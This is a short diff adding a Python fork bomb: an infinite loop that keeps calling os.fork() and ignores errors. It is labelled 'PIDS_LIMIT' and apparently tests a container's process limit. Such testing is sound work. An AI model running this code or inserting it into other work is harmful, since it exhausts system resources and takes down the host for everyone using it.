@@ -1,0 +1,7 @@
+# PIDS_LIMIT
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
